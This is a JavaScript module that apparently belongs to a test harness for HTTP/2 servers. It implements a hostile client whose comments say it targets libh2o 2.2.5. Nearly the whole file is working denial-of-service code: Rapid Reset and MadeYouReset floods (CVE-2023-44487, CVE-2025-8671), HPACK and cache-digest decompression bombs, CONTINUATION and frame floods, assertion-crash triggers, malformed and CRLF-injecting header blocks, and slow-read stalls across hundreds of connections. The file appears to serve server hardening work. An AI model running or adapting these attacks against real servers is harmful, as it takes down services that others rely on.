// SPDX-License-Identifier: Apache-2.0
// What a hostile HTTP/2 client does. Each attack takes a target and ends by itself:
//   { port, connect, small: {path, headers, length}, large: {path, headers, length} }
// small and large are requests that are answered 200 with bodies of that length.
// The comments say what it aims at in libh2o 2.2.5.
import { setTimeout as sleep } from 'node:timers/promises';
import {
  FLAG, H2, TYPE, block, frame, indexed, integer, literal, ping, priority, remembered, request, rst, settings,
  tableSize, text, u32, windowUpdate,
} from './h2.mjs';
import { closedByPeer } from './taken.mjs';

const WIDE = windowUpdate(0, 0x7fff0000 - 65535);
const get = (stream, what, flags) => request(stream, block(what.path, what.headers), flags);
const each = (count, make) => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const odd = (i) => 2 * i + 1;
const OPEN = FLAG.END_HEADERS; // a request whose body never ends

async function connection(target, options = {}) {
  return H2.open(target.port, { connect: target.connect, ...options });
}

// Sends the bytes and waits until the server has ended the connection, or `ms` are over.
async function strike(target, bytes, { ms = 1500, ...options } = {}) {
  const h2 = await connection(target, options);
  const sent = h2.write(bytes);
  await Promise.race([h2.closed, sent.then(() => sleep(ms, undefined, { ref: false }))]);
  if (options.read === false) { // who does not read does not notice the end
    h2.resume();
    await Promise.race([h2.closed, sleep(1000)]);
  }
  const { counts, goaway, isClosed } = h2;
  h2.destroy();
  await h2.closed;
  return { counts, goaway, cut: isClosed === true };
}

// The same on many connections at once, `batch` at a time.
async function strikeMany(target, connections, bytes, options) {
  return Promise.all(Array.from({ length: connections }, () => strike(target, bytes, options)));
}

// -- update_stream_output_window's assertion -----------------------------------

// A window of just the body's size is used up by the body; a WINDOW_UPDATE that comes
// between the body and the completion of its write finds the stream in a list where it
// must not be. The first 8,192 bytes are one read of the server, the updates the next.
export async function assertionBurst(target) {
  const { length } = target.small;
  for (let i = 0; i < 5; i++) {
    const gets = each(60, (n) => get(odd(n), target.small));
    const filler = Buffer.alloc(Math.max(0, 8192 - 100 - gets.length), ping('fillfill', FLAG.ACK));
    const whole = filler.subarray(0, filler.length - (filler.length % 17));
    await strike(target, Buffer.concat([gets, whole, each(60, (n) => windowUpdate(odd(n), 1)), ping()]),
      { first: settings({ INITIAL_WINDOW_SIZE: length }), ms: 150 });
  }
}

// The same without a second read: a client that takes nothing keeps a write under way for as
// long as it likes. Large bodies are chained by priority, so that they end one after the other;
// whether an end is in that write is chance, hence the tries.
function chained(i, what) {
  const parent = Buffer.concat([u32(i === 0 ? 0 : odd(i - 1)), Buffer.from([0])]);
  return request(odd(i), Buffer.concat([parent, block(what.path, what.headers)]),
    FLAG.PRIORITY | FLAG.END_STREAM | FLAG.END_HEADERS);
}

export async function assertionSlowLarge(target, tries = 12) {
  const count = Math.ceil(15e6 / target.large.length);
  const first = Buffer.concat([settings({ INITIAL_WINDOW_SIZE: target.large.length }), WIDE]);
  for (let i = 0; i < tries; i++) {
    const h2 = await connection(target, { first, read: false });
    await h2.write(each(count, (n) => chained(n, target.large)));
    await sleep(80);
    await h2.write(each(count, (n) => windowUpdate(odd(n), 1)));
    await sleep(20);
    h2.destroy();
    await h2.closed;
  }
}

// Small bodies fill the pipe by their number.
export async function assertionSlowSmall(target, rounds = 400) {
  const h2 = await connection(target, {
    first: Buffer.concat([settings({ INITIAL_WINDOW_SIZE: target.small.length }), WIDE]), read: false });
  for (let round = 0; round < rounds && !h2.isClosed; round++) {
    const stream = (n) => odd(90 * round + n);
    await h2.write(each(90, (n) => get(stream(n), target.small)));
    await sleep(2);
    await h2.write(each(90, (n) => windowUpdate(stream(n), 1)));
  }
  h2.destroy();
  await h2.closed;
}

// Bodies that need many windows, with SETTINGS that move all windows up and down meanwhile.
export async function windowSwings(target) {
  const h2 = await connection(target, { first: Buffer.concat([settings({ INITIAL_WINDOW_SIZE: 65535 }), WIDE]) });
  for (let round = 0, next = 1; round < 20 && !h2.isClosed; round++) {
    const from = next;
    const swing = (size) => settings({ INITIAL_WINDOW_SIZE: size });
    h2.write(Buffer.concat([each(20, (n) => get(from + 2 * n, target.large)),
      swing(65536), swing(200000), swing(65535), each(20, (n) => windowUpdate(from + 2 * n, 65535)),
      swing(target.large.length), swing(65535), swing(0x7fffffff), swing(65535)]));
    next += 40;
    await sleep(10);
  }
  h2.destroy();
  await h2.closed;
}

// -- header blocks that grow when they are decoded -----------------------------

// HPACK: one byte of a block is one reference to a field of 4,000 bytes.
export async function hpackBomb(target, streams = 20) {
  const big = remembered('x-big', 'a'.repeat(4000));
  const field = [target.small.path, target.small.headers];
  const first = Buffer.concat([block(...field), big]);
  const bomb = Buffer.concat([block(...field), Buffer.alloc(400000, indexed(62))]);
  const frames = each(streams, (n) => inPieces(odd(n + 1), bomb, OPEN));
  return strike(target, Buffer.concat([request(1, first), frames]));
}

// The same with fields of the static table: nothing to copy, but a header each.
export async function hpackBombStatic(target, streams = 20) {
  const bomb = Buffer.concat([block(target.small.path, target.small.headers), Buffer.alloc(400000, indexed(16))]);
  return strike(target, each(streams, (n) => inPieces(odd(n), bomb, OPEN)));
}

// cache-digest is decoded when it arrives, to eight bytes a bit, and kept while the
// stream is open: 4 KB in the table are 200 KB a reference, and a reference is one byte.
export async function cacheDigestBomb(target, streams = 90) {
  const digest = Buffer.concat([Buffer.from([0xf8, 0x3f]), Buffer.alloc(2950, 0xff)]).toString('base64url');
  const first = Buffer.concat([block(target.small.path, target.small.headers), remembered('cache-digest', digest)]);
  const next = Buffer.concat([block(target.small.path), Buffer.alloc(60, indexed(62))]);
  return strike(target, Buffer.concat([request(1, first), each(streams, (n) => request(odd(n + 1), next, OPEN))]));
}

export async function tableSizeUpdates(target) {
  const sizes = each(4000, (n) => tableSize(n % 2 === 0 ? 0 : 4096));
  const one = Buffer.concat([sizes, block(target.small.path, target.small.headers)]);
  return strike(target, each(200, (n) => request(odd(n), one)));
}

// Blocks that lie about themselves: each on a connection of its own.
export async function brokenBlocks(target) {
  const good = block(target.small.path, target.small.headers);
  const broken = [
    Buffer.from([0x80]), Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]), indexed(62), indexed(61 + 4000),
    Buffer.from([0x40]), Buffer.from([0x40, 0x7f]), Buffer.from([0x00, 0x00, 0x00]), Buffer.from([0x3f, 0xe1, 0x7f]),
    Buffer.concat([Buffer.from([0]), integer(7, 0, 100000), Buffer.from('short')]),
    Buffer.concat([Buffer.from([0]), integer(7, 0x80, 4), Buffer.from([0xff, 0xff, 0xff, 0xff]), text('v')]),
    literal('', 'no name'), literal('Upper', 'case'), literal(':path', '/twice'), literal(':unknown', 'x'),
    literal('transfer-encoding', 'chunked'), literal('connection', 'close'), literal('content-length', '-1'),
    literal('te', 'gzip'), literal('x', 'a\0b'), literal('x', 'a\r\nb: c'), literal('x\0', 'v'), tableSize(4097), tableSize(16),
  ];
  for (const what of broken) {
    await strike(target, request(1, Buffer.concat([good, what])), { ms: 20 });
    await strike(target, request(1, Buffer.concat([what, good])), { ms: 20 });
    await strike(target, request(1, what), { ms: 20 });
  }
}

// A request of more than one frame.
function inPieces(stream, whole, flags = FLAG.END_STREAM | FLAG.END_HEADERS, size = 16384) {
  const out = [];
  for (let at = 0; at < whole.length || at === 0; at += size) {
    const last = at + size >= whole.length ? FLAG.END_HEADERS : 0;
    const type = at === 0 ? TYPE.HEADERS : TYPE.CONTINUATION;
    out.push(frame(type, at === 0 ? (flags & ~FLAG.END_HEADERS) | last : last, stream, whole.subarray(at, at + size)));
  }
  return Buffer.concat(out);
}

// -- streams that are opened and taken back ------------------------------------

export const RESETS = 200000;

// The client resets (CVE-2023-44487). `what` may be a function of i: another key each time.
export async function rapidReset(target, count = RESETS, what = target.small) {
  return strike(target, each(count, (n) =>
    Buffer.concat([get(odd(n), typeof what === 'function' ? what(n) : what), rst(odd(n))])), { ms: 1000 });
}

// Without ever reading: what the server says to each must not pile up.
export const rapidResetUnread = (target) => manyUnread(target, 60, each(3000, (n) =>
  Buffer.concat([get(odd(n), target.small), rst(odd(n))])));

// The server is made to reset (CVE-2025-8671), in each way that there is.
const MADE = {
  'WINDOW_UPDATE of 0': (s) => windowUpdate(s, 0),
  'window overflow': (s) => Buffer.concat([windowUpdate(s, 0x7fffffff), windowUpdate(s, 0x7fffffff)]),
  'DATA after END_STREAM': (s) => frame(TYPE.DATA, 0, s, Buffer.from('x')),
};
export async function madeYouReset(target, count = RESETS) {
  for (const make of Object.values(MADE))
    await strike(target, each(Math.ceil(count / 3), (n) => Buffer.concat([get(odd(n), target.small), make(odd(n))])), { ms: 1000 });
  const noPath = Buffer.concat([indexed(2), indexed(6)]);
  await strike(target, each(count / 10, (n) => request(odd(n), noPath)), { ms: 1000 });
  const short = Buffer.concat([block(target.small.path, [...(target.small.headers ?? []), ['content-length', '9']])]);
  await strike(target, each(count / 10, (n) => Buffer.concat([
    request(odd(n), short, OPEN), frame(TYPE.DATA, FLAG.END_STREAM, odd(n), Buffer.from('x'))])), { ms: 1000 });
  // Streams that are closed, or were never opened.
  await strike(target, Buffer.concat([get(1, target.small), each(count / 2, (n) => windowUpdate(odd(n + 1), 0))]), { ms: 1000 });
  await strike(target, Buffer.concat([get(20001, target.small),
    each(count / 2, (n) => frame(TYPE.DATA, 0, odd(n % 9000), Buffer.from('x')))]), { ms: 1000 });
}

// More streams at once than are allowed: each refusal is a reset too.
export const tooManyStreams = (target) => strike(target,
  each(20000, (n) => get(odd(n), target.large, OPEN)), { ms: 500 });

// -- floods ---------------------------------------------------------------------

async function manyUnread(target, connections, bytes) {
  return strikeMany(target, connections, bytes, { read: false, ms: 1500 });
}

export async function continuationFlood(target) {
  const start = request(1, block(target.small.path, target.small.headers), FLAG.END_STREAM);
  const piece = frame(TYPE.CONTINUATION, 0, 1, Buffer.alloc(16384, literal('x-more', 'y'.repeat(56))));
  await strike(target, Buffer.concat([start, Buffer.alloc(piece.length * 1000, piece)]), { ms: 500 });
  const empty = frame(TYPE.CONTINUATION, 0, 1);
  await strike(target, Buffer.concat([start, Buffer.alloc(9 * 300000, empty)]), { ms: 500 });
  // As trailers of a request whose body has begun.
  const trailing = Buffer.concat([get(1, target.small, OPEN), frame(TYPE.DATA, 0, 1, Buffer.from('body')),
    frame(TYPE.HEADERS, FLAG.END_STREAM, 1, literal('x-trailer', 'y'))]);
  await strike(target, Buffer.concat([trailing, Buffer.alloc(piece.length * 1000, piece)]), { ms: 500 });
  await strike(target, Buffer.concat([trailing, Buffer.alloc(9 * 300000, empty)]), { ms: 500 });
}

export async function frameFloods(target) {
  const flood = (one, count = 200000) => Buffer.alloc(one.length * count, one);
  const floods = [
    flood(frame(0x77)), flood(frame(0xff, 0xff, 0x7fffffff)), flood(ping()), flood(settings()),
    flood(settings(Array.from({ length: 100 }, (_, i) => [i + 10, i])), 20000), flood(settings(), 100000),
    flood(frame(TYPE.DATA, FLAG.PADDED, 1, Buffer.alloc(256, Buffer.from([255]))), 20000), flood(frame(TYPE.DATA, 0, 1)),
    flood(windowUpdate(0, 1)), flood(windowUpdate(1, 1)), flood(frame(TYPE.GOAWAY, 0, 0, u32(0, 0))),
    flood(priority(1, 3)), each(100000, (n) => priority(odd(n + 1), 1)), flood(rst(1)),
  ];
  for (const one of floods)
    await strike(target, Buffer.concat([get(1, target.small, OPEN), one]), { ms: 300 });
}

// After an error the connection only waits for its last write; what still comes must not
// be kept for that.
export async function closingFlood(target, megabytes = 150) {
  const count = Math.min(99, Math.ceil(15e6 / target.large.length));
  const h2 = await connection(target, { first: Buffer.concat([settings({ INITIAL_WINDOW_SIZE: 0xffffff }), WIDE]), read: false });
  await h2.write(each(count, (n) => get(odd(n), target.large)));
  await sleep(300);
  await h2.write(frame(TYPE.PING, 0, 0, Buffer.alloc(7)));
  const chunk = Buffer.alloc(1 << 20);
  for (let sent = 0; sent < megabytes && !h2.isClosed; sent++) await Promise.race([h2.write(chunk), sleep(300)]);
  h2.destroy();
  await h2.closed;
}

// The answers to 17 bytes are 17 bytes: many connections that take none of them.
export const pingUnread = (target) => manyUnread(target, 100, Buffer.alloc(17 * 60000, ping()));
export const settingsUnread = (target) => manyUnread(target, 100, Buffer.alloc(9 * 100000, settings()));

// -- the priority tree -----------------------------------------------------------

export async function priorityTrees(target) {
  const ids = Array.from({ length: 16 }, (_, i) => odd(i));
  const moves = each(4000, (n) => priority(ids[(n * 7) % 16], [0, ...ids, 999][(n * 5 + 3) % 18] === ids[(n * 7) % 16]
    ? 0 : [0, ...ids, 999][(n * 5 + 3) % 18], { exclusive: n % 3 === 0, weight: (n * 37) % 256 + 1 }));
  const open = each(16, (n) => priority(ids[n], n === 0 ? 0 : ids[n - 1], { exclusive: n % 2 === 0 }));
  const requests = each(16, (n) => get(ids[n], target.large));
  await strike(target, Buffer.concat([WIDE, open, moves, requests, moves, each(16, (n) => windowUpdate(ids[n], 100000)), moves,
    each(8, (n) => rst(ids[2 * n])), moves]), { ms: 300 });
  // On itself, in both frames; on a parent that is gone; a tree whose root is closed.
  await strike(target, priority(1, 1), { ms: 50 });
  const self = Buffer.concat([u32(1), Buffer.from([15]), block(target.small.path, target.small.headers)]);
  await strike(target, request(1, self, FLAG.PRIORITY | FLAG.END_STREAM | FLAG.END_HEADERS), { ms: 50 });
  await strike(target, Buffer.concat([open, get(1, target.small), each(16, (n) => rst(ids[n])), get(33, target.small)]), { ms: 100 });
  await strike(target, Buffer.concat([priority(3, 0), get(5, target.small), windowUpdate(3, 5), rst(3), get(7, target.small)]), { ms: 100 });
  await strike(target, Buffer.concat([priority(3, 0), get(5, target.small), get(3, target.small), get(3, target.small)]), { ms: 100 });
}

// -- frames where they do not belong ---------------------------------------------

export async function oddFrames(target) {
  const open = get(1, target.small, OPEN), closed = get(1, target.small);
  const data = (flags, stream, bytes) => frame(TYPE.DATA, flags, stream, Buffer.from(bytes));
  const odds = [
    get(2, target.small), get(0, target.small), data(0, 0, 'x'), data(0, 2, 'x'), rst(0), rst(2), rst(99), priority(0, 1),
    windowUpdate(0, 0), windowUpdate(99, 1), Buffer.concat([windowUpdate(0, 0x7fffffff), windowUpdate(0, 0x7fffffff)]),
    frame(TYPE.PUSH_PROMISE, FLAG.END_HEADERS, 1, Buffer.concat([u32(2), block('/')])), frame(TYPE.CONTINUATION, 4, 1, block('/')),
    frame(TYPE.SETTINGS, 0, 1), frame(TYPE.SETTINGS, FLAG.ACK, 0, Buffer.alloc(6)), frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(5)),
    settings({ ENABLE_PUSH: 2 }), settings({ INITIAL_WINDOW_SIZE: 0x80000000 }), settings({ MAX_FRAME_SIZE: 1 }),
    settings({ MAX_FRAME_SIZE: 0xffffff, HEADER_TABLE_SIZE: 0xffffffff, MAX_CONCURRENT_STREAMS: 0 }),
    frame(TYPE.PING, 0, 1, Buffer.alloc(8)), frame(TYPE.PING, 0, 0, Buffer.alloc(7)), frame(TYPE.GOAWAY, 0, 0, Buffer.alloc(7)),
    frame(TYPE.GOAWAY, 0, 1, Buffer.alloc(8)), frame(TYPE.WINDOW_UPDATE, 0, 1, Buffer.alloc(5)), frame(TYPE.RST_STREAM, 0, 1, Buffer.alloc(5)),
    frame(TYPE.PRIORITY, 0, 1, Buffer.alloc(4)), frame(TYPE.HEADERS, FLAG.PADDED, 3), frame(TYPE.HEADERS, FLAG.PADDED, 3, Buffer.from([9, 1])),
    frame(TYPE.HEADERS, FLAG.PRIORITY | FLAG.END_HEADERS, 3, Buffer.from([0, 0])), frame(TYPE.DATA, FLAG.PADDED, 1), data(FLAG.PADDED, 1, '\xff'),
    frame(TYPE.DATA, 0, 1, Buffer.alloc(16385)), frame(TYPE.HEADERS, 0, 3, Buffer.alloc(16385)), get(0x7fffffff, target.small),
    Buffer.concat([frame(TYPE.GOAWAY, 0, 0, u32(0, 0)), get(5, target.small), rst(4), windowUpdate(4, 1), data(0, 4, 'x')]),
    Buffer.concat([request(3, block('*', [], { method: 'OPTIONS' })), request(5, block('', [])), request(7, block('x', []))]),
    request(3, Buffer.concat([Buffer.concat([integer(4, 0, 2), text('CONNECT')]), Buffer.concat([integer(4, 0, 1), text('a:1')])])),
    request(3, block(`/${'p'.repeat(16000)}`, [])), request(3, block('/v1/models', Array(95).fill(['cookie', 'a=b'.repeat(10)]))),
    // Twice the end; more after the end; a body longer and shorter than it says.
    Buffer.concat([data(1, 1, 'x'), data(1, 1, 'x'), data(1, 1, 'x')]), Buffer.concat([data(1, 1, 'x'), request(1, literal('x', 'y'))]),
    Buffer.concat([data(0, 1, 'x'), request(1, literal('x', 'y')), data(1, 1, 'x')]), request(1, literal(':path', '/'), FLAG.END_STREAM | 4),
    request(1, literal('x', 'a\0b'), FLAG.END_STREAM | FLAG.END_HEADERS), request(1, literal('x', 'y'), FLAG.END_HEADERS),
  ];
  for (const one of odds)
    for (const before of [open, closed])
      await strike(target, Buffer.concat([before, one, get(0x7ffffffd, target.small), ping()]), { ms: 20 });
}

// -- holding on ------------------------------------------------------------------

// 100 requests with bodies that never end: what was sent of them is kept meanwhile.
export async function openBodies(target, connections = 12) {
  const body = Buffer.concat(Array.from({ length: 3 }, () => Buffer.alloc(16384, 'b')));
  const frames = (stream) => Buffer.concat([0, 1, 2].map((n) => frame(TYPE.DATA, 0, stream, body.subarray(n * 16384, (n + 1) * 16384))));
  const bytes = each(100, (n) => Buffer.concat([get(odd(n), target.small, OPEN), frames(odd(n))]));
  return strikeMany(target, connections, bytes, { ms: 1500 });
}

// The same with heads of 15,000 bytes in place of bodies.
export const openHeads = (target, connections = 40) => strikeMany(target, connections,
  each(100, (n) => request(odd(n), block(target.small.path, [['x-long', 'h'.repeat(15000)]]), OPEN)), { ms: 1500 });

// Nobody reads: 100 large answers wait on each connection, with windows that allow them and without.
export async function windowStall(target, { connections = 250, ms }) {
  const wide = Buffer.concat([WIDE, settings({ INITIAL_WINDOW_SIZE: 0xffffff })]);
  const gets = each(100, (n) => get(odd(n), target.large));
  const unread = Promise.all([...Array(connections).fill({}), ...Array(connections).fill({ first: wide })].map(async (options) => {
    const h2 = await connection(target, { ...options, read: false });
    h2.write(gets);
    return h2;
  }));
  const naggers = Promise.all([
    // Who keeps pinging, or sends a byte of body now and then, is stalled all the same.
    ...Array.from({ length: 5 }, () => nag(target, gets, ping(), ms)),
    ...Array.from({ length: 5 }, () => nag(target, Buffer.concat([get(1, target.small, OPEN)]), frame(TYPE.DATA, 0, 1, Buffer.from('x')), ms)),
    ...Array.from({ length: 5 }, () => nag(target, request(1, block(target.small.path)).subarray(0, 20), Buffer.from('x'), ms)),
    ...Array.from({ length: 5 }, () => nag(target, request(1, block(target.small.path), 0), frame(TYPE.CONTINUATION, 0, 1), ms)),
  ]);
  return [...await stalled(await unread, ms), ...await naggers];
}

// Waits until the server has had enough of those who take nothing; says who was cut.
async function stalled(all, ms) {
  const kept = await closedByPeer(all.map((h2) => h2.socket), ms);
  for (const h2 of all) h2.destroy();
  return all.map((h2) => ({ cut: !kept.includes(h2.socket) }));
}

async function nag(target, start, again, ms) {
  const h2 = await connection(target, {});
  await h2.write(start);
  const end = Date.now() + ms;
  while (!h2.isClosed && Date.now() < end) {
    h2.write(again);
    await sleep(200);
  }
  const cut = h2.isClosed === true;
  h2.destroy();
  return { cut, nagged: true };
}
